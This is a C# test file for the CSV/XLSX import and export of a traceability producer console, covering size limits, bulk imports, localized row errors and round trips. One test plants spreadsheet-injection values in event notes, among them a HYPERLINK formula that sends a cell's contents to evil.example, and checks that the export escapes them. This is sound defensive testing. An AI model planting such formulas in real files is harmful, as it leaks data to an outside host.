using Traceability.ProducerConsole.Import;

namespace Traceability.ProducerConsole.Tests;

public sealed class ImportTests(ConsoleAppFixture fixture) : IClassFixture<ConsoleAppFixture>
{
    private ConsoleApp App => fixture.App;

    internal static async Task<string> UploadAsync(Browser browser, byte[] file, string name)
    {
        var response = await browser.SubmitFormAsync("/console/import", "/console/import", token =>
        {
            var content = new MultipartFormDataContent { { new StringContent(token), "__csrf" }, { new ByteArrayContent(file), "file", name } };
            return content;
        });
        Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
        return response.Headers.Location!.OriginalString;
    }

    /// <summary>Polls the job's status (as the page does) until it stops running.</summary>
    internal static async Task<JsonObject> WaitAsync(Browser browser, string jobUrl)
    {
        var deadline = DateTime.UtcNow.AddMinutes(8);
        while (true)
        {
            var status = (await browser.Client.GetFromJsonAsync<JsonObject>(jobUrl + "/status"))!;
            Assert.InRange((int)status["percent"]!, 0, 100);
            if ((string)status["phase"]! is not ("validating" or "committing")) return status;
            Assert.True(DateTime.UtcNow < deadline, "the import did not finish in time");
            await Task.Delay(100);
        }
    }

    internal static async Task<JsonObject> CommitAsync(Browser browser, string jobUrl)
    {
        var page = await browser.GetPageAsync(jobUrl);
        var response = await browser.Client.PostAsync(jobUrl + "/commit", new FormUrlEncodedContent([new("__csrf", Browser.TokenOf(page))]));
        Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
        return await WaitAsync(browser, jobUrl);
    }

    [Fact]
    public async Task A_file_over_the_import_limit_is_refused_with_413_problem_json_before_it_is_read()
    {
        var browser = await (await App.NewProducerAsync()).SignInAsync();
        var huge = new byte[ImportPages.MaxFileBytes + Traceability.ServiceDefaults.Http.UploadLimits.FormOverhead];

        var response = await browser.SubmitFormAsync("/console/import", "/console/import", token =>
            new MultipartFormDataContent { { new StringContent(token), "__csrf" }, { new ByteArrayContent(huge), "file", "big.csv" } });

        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
    }

    internal static byte[] Csv(IEnumerable<string> lines) =>
        Encoding.UTF8.GetBytes("gtin,lot,bizStep,eventTime,location,quantity,uom,inputGtin,inputLot,note\n" + string.Join("\n", lines) + "\n");

    [Fact]
    public async Task A_50000_row_CSV_imports_in_one_go_and_every_row_is_queryable()
    {
        var producer = await App.NewProducerAsync();
        var browser = await producer.SignInAsync();
        var (gtin14, _) = await ConsoleFlowTests.SetUpLotAsync(producer, browser, "BIG-0");
        var lots = Enumerable.Range(0, 5).Select(i => "BIG-" + i).ToList();
        foreach (var lot in lots.Skip(1))
            Assert.Equal(HttpStatusCode.Redirect, (await browser.SubmitAsync("/console/lots/new", "/console/lots/new",
                new() { ["gtin"] = gtin14, ["lot"] = lot })).StatusCode);
        string[] steps = ["thu hoạch", "đóng gói", "vận chuyển", "nhận hàng", "lưu kho", "bán lẻ", "shipping", "retail_selling"];
        var start = new DateTime(2026, 1, 1, 6, 0, 0);
        var rows = Enumerable.Range(0, 50_000).Select(i =>
            $"{gtin14},{lots[i % 5]},{steps[i % steps.Length]},{start.AddMinutes(i).ToString("yyyy-MM-dd'T'HH:mm", CultureInfo.InvariantCulture)},VT-PHULUU,{i % 97 + 1},KGM,,,dòng {i}");

        var job = await UploadAsync(browser, Csv(rows), "lon.csv");
        var validated = await WaitAsync(browser, job);
        Assert.Equal("ready", (string)validated["phase"]!);
        Assert.Equal(50_000, (int)validated["events"]!);
        Assert.Contains("Lưu 50.000 sự kiện", await browser.GetPageAsync(job).ContinueWith(t => t.Result.Replace(",", ".")));

        var done = await CommitAsync(browser, job);
        Assert.Equal("done", (string)done["phase"]!);
        Assert.Equal(50_000, (int)done["stored"]!);

        var total = 0;
        foreach (var lot in lots)
        {
            var events = await Epcis.QueryAllAsync(producer.Api, $"MATCH_epcClass={Epcis.ClassUri(gtin14, lot)}&perPage=1000");
            Assert.Equal(10_000, events.Count);
            total += events.Count;
        }
        Assert.Equal(50_000, total);
        var last = await Epcis.QueryAllAsync(producer.Api, "GE_eventTime=" + Uri.EscapeDataString(new DateTimeOffset(start.AddMinutes(49_999), TimeSpan.FromHours(7)).ToString("O")));
        Assert.Equal("dòng 49999", (string)Assert.Single(last)["trc:note"]!);
    }

    [Fact]
    public async Task A_file_with_three_bad_rows_commits_nothing_and_lists_the_rows_with_reasons()
    {
        var producer = await App.NewProducerAsync();
        var browser = await producer.SignInAsync();
        var (gtin14, lot) = await ConsoleFlowTests.SetUpLotAsync(producer, browser);
        var rows = new List<string>();
        for (var i = 0; i < 20; i++) rows.Add($"{gtin14},{lot},đóng gói,2026-11-2{i % 9}T08:{i:00},SC-HAMYEN,{i + 1},,,,");
        rows[4] = $"{gtin14},{lot},đóng gói,31/02/2026 08:00,SC-HAMYEN,5,,,,";      // row 6: bad date
        rows[9] = $"{gtin14},KHONG-CO,vận chuyển,2026-11-21T08:00,SC-HAMYEN,5,,,,"; // row 11: unknown lot
        rows[14] = $"{gtin14},{lot},phơi khô,2026-11-21T08:00,SC-HAMYEN,5,,,,";     // row 16: unknown step

        var job = await UploadAsync(browser, Csv(rows), "loi.csv");
        var status = await WaitAsync(browser, job);
        Assert.Equal("invalid", (string)status["phase"]!);
        Assert.Equal(3, (int)status["errorRows"]!);

        var page = await browser.GetPageAsync(job);
        Assert.Contains("Không lưu gì: 3 dòng có lỗi", page);
        Assert.Matches(new Regex("<tr id=\"row-6\" class=\"bad\">.*?Thời gian không hợp lệ: &#x27;31/02/2026 08:00&#x27;", RegexOptions.Singleline), page);
        Assert.Matches(new Regex("<tr id=\"row-11\" class=\"bad\">.*?Lô KHONG-CO của GTIN \\d+ chưa được đăng ký", RegexOptions.Singleline), page);
        Assert.Matches(new Regex("<tr id=\"row-16\" class=\"bad\">.*?Công đoạn không rõ: &#x27;phơi khô&#x27;", RegexOptions.Singleline), page);
        Assert.Equal(3, Regex.Matches(page, "<tr id=\"row-\\d+\" class=\"bad\">").Count);

        // The reasons are kept as texts, not strings: a reader who switches to English reads them in English.
        var english = await browser.GetPageAsync(job + "?lang=en");
        Assert.Matches(new Regex("<tr id=\"row-6\" class=\"bad\">.*?Not a valid time: &#x27;31/02/2026 08:00&#x27;", RegexOptions.Singleline), english);
        Assert.Matches(new Regex("<tr id=\"row-11\" class=\"bad\">.*?Lot KHONG-CO of GTIN \\d+ is not registered", RegexOptions.Singleline), english);
        Assert.Matches(new Regex("<tr id=\"row-16\" class=\"bad\">.*?Unknown step: &#x27;phơi khô&#x27;", RegexOptions.Singleline), english);
        page = await browser.GetPageAsync(job + "?lang=vi");

        var refused = await browser.Client.PostAsync(job + "/commit", new FormUrlEncodedContent([new("__csrf", Browser.TokenOf(page))]));
        Assert.Equal(HttpStatusCode.Conflict, refused.StatusCode);
        Assert.Empty(await Epcis.QueryAllAsync(producer.Api, "MATCH_epcClass=" + Epcis.ClassUri(gtin14, lot)));
    }

    [Fact]
    public async Task An_XLSX_with_two_bad_rows_shows_each_rows_number_column_and_Vietnamese_reason_first_in_the_row()
    {
        var producer = await App.NewProducerAsync();
        var browser = await producer.SignInAsync();
        var (gtin14, lot) = await ConsoleFlowTests.SetUpLotAsync(producer, browser);
        IReadOnlyList<object?>[] rows =
        [
            [gtin14, lot, "đóng gói", "2026-11-21T08:00", "SC-HAMYEN", "5", null, null, null, null],
            [gtin14, lot, "đóng gói", "2026-11-21T09:00", "SC-HAMYEN", "năm", null, null, null, null],   // row 3: quantity
            [gtin14, lot, "vận chuyển", "2026-11-21T10:00", "KHO-LA", "5", null, null, null, null],     // row 4: location
        ];
        var xlsx = Traceability.ServiceDefaults.Files.SpreadsheetFile.Xlsx(
            new Traceability.ServiceDefaults.Files.Sheet("SuKien", ImportReader.Columns, rows));

        var job = await UploadAsync(browser, xlsx, "loi.xlsx");
        Assert.Equal("invalid", (string)(await WaitAsync(browser, job))["phase"]!);
        var page = await browser.GetPageAsync(job);
        // The row's first cell (its header cell) holds the row number, the column and the reason, before any value.
        var first = Regex.Matches(page, "<tr id=\"row-(\\d+)\" class=\"bad\"><th scope=\"row\">(.*?)</th>", RegexOptions.Singleline)
            .ToDictionary(m => m.Groups[1].Value, m => WebUtility.HtmlDecode(Regex.Replace(m.Groups[2].Value, "<[^>]+>", "")));
        Assert.Equal(["3", "4"], first.Keys.Order());
        Assert.Contains("Dòng 3", first["3"]);
        Assert.Contains("quantity: Số lượng không hợp lệ: 'năm'.", first["3"]);
        Assert.Contains("Dòng 4", first["4"]);
        Assert.Contains("location: Bạn chưa có địa điểm mã 'KHO-LA'.", first["4"]);
        // Each value cell names its column, so the stacked phone layout (console.css) reads without the header row.
        Assert.Contains("<td data-label=\"quantity\">năm</td>", page);
        Assert.Contains("<div class=\"table rows\">", page);
    }

    [Fact]
    public async Task Exporting_a_lot_and_importing_the_file_again_gives_the_same_events()
    {
        var producer = await App.NewProducerAsync();
        var browser = await producer.SignInAsync();
        var (gtin14, lot) = await ConsoleFlowTests.SetUpLotAsync(producer, browser);
        await ConsoleFlowTests.RecordAsync(browser, gtin14, lot, "harvest", "VT-PHULUU", "2026-11-20T07:30", "1200");
        await ConsoleFlowTests.RecordAsync(browser, gtin14, lot, "packing", "SC-HAMYEN", "2026-11-21T09:00");
        await ConsoleFlowTests.RecordAsync(browser, gtin14, lot, "shipping", "SC-HAMYEN", "2026-11-21T14:00");
        var before = await Epcis.QueryAllAsync(producer.Api, "MATCH_epcClass=" + Epcis.ClassUri(gtin14, lot));

        var export = await browser.Client.GetByteArrayAsync($"/console/lots/{gtin14}/{lot}/export.csv");
        var lines = Encoding.UTF8.GetString(export).Trim('\uFEFF').Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(4, lines.Length);
        Assert.Equal(string.Join(',', ImportReader.Columns), lines[0]);

        var job = await UploadAsync(browser, export, "xuat.csv");
        Assert.Equal("ready", (string)(await WaitAsync(browser, job))["phase"]!);
        var done = await CommitAsync(browser, job);
        Assert.Equal(0, (int)done["stored"]!);
        Assert.Equal(3, (int)done["duplicates"]!);
        var after = await Epcis.QueryAllAsync(producer.Api, "MATCH_epcClass=" + Epcis.ClassUri(gtin14, lot));
        Assert.Equal(before.Select(e => (string)e["eventID"]!).Order(), after.Select(e => (string)e["eventID"]!).Order());
    }

    [Fact]
    public async Task The_lot_export_escapes_formula_like_notes_and_still_reimports_to_the_same_events()
    {
        var producer = await App.NewProducerAsync();
        var browser = await producer.SignInAsync();
        var (gtin14, lot) = await ConsoleFlowTests.SetUpLotAsync(producer, browser);
        string[] notes = ["=1+1", "=HYPERLINK(\"https://evil.example/?\"&A1,\"Bấm\")", "+cmd", "-2+3", "@SUM(A1)", "'=quoted", "bình thường"];
        for (var i = 0; i < notes.Length; i++)
        {
            var response = await browser.SubmitAsync("/console/events/new", "/console/events/new", new()
            {
                ["lot"] = $"{gtin14}:{lot}", ["step"] = "shipping", ["location"] = "SC-HAMYEN", ["quantity"] = "1", ["uom"] = "KGM",
                ["time"] = $"2026-11-21T1{i}:00", ["note"] = notes[i],
            });
            Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
        }

        var export = await browser.Client.GetByteArrayAsync($"/console/lots/{gtin14}/{lot}/export.csv");
        var rows = MiniExcelLibs.MiniExcel.Query(new MemoryStream(export), useHeaderRow: true, excelType: MiniExcelLibs.ExcelType.CSV)
            .Cast<IDictionary<string, object?>>().ToList();
        Assert.Equal(notes.Length, rows.Count);
        string[] expected = ["'=1+1", "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Bấm\")", "'+cmd", "'-2+3", "'@SUM(A1)", "''=quoted", "bình thường"];
        Assert.Equivalent(expected, rows.Select(r => (string)r["note"]!).ToList(), strict: true);
        Assert.All(rows.SelectMany(r => r.Values).OfType<string>(), v => Assert.False(v.Length > 0 && "=+-@\t\r".Contains(v[0]), $"'{v}' starts a formula"));

        var job = await UploadAsync(browser, export, "xuat.csv");
        Assert.Equal("ready", (string)(await WaitAsync(browser, job))["phase"]!);
        var done = await CommitAsync(browser, job);
        Assert.Equal(0, (int)done["stored"]!);
        Assert.Equal(notes.Length, (int)done["duplicates"]!);
    }

    [Fact]
    public async Task The_templates_explain_the_columns_in_Vietnamese_and_read_back()
    {
        var browser = await (await App.NewProducerAsync()).SignInAsync();
        var xlsx = await browser.Client.GetByteArrayAsync("/console/import/template.xlsx");
        var reader = new ImportReader(Microsoft.Extensions.Options.Options.Create(new ImportOptions()));
        var (count, error) = reader.Check(xlsx);
        Assert.Null(error);
        Assert.Equal(3, count);
        var rows = reader.Rows(xlsx).ToList();
        Assert.Equal("thu hoạch", rows[0].BizStep);
        Assert.Equal("2026-11-20T07:30", rows[0].EventTime);
        var help = MiniExcelLibs.MiniExcel.Query(new MemoryStream(xlsx), useHeaderRow: true, sheetName: "HuongDan").Cast<IDictionary<string, object>>().ToList();
        Assert.Equal(ImportReader.Columns, help.Select(h => (string)h["Cột"]));
        Assert.Contains("Công đoạn", (string)help[2]["Ý nghĩa"]);

        var csv = await browser.Client.GetByteArrayAsync("/console/import/template.csv");
        Assert.Equal((3, (string?)null), reader.Check(csv));
    }
}
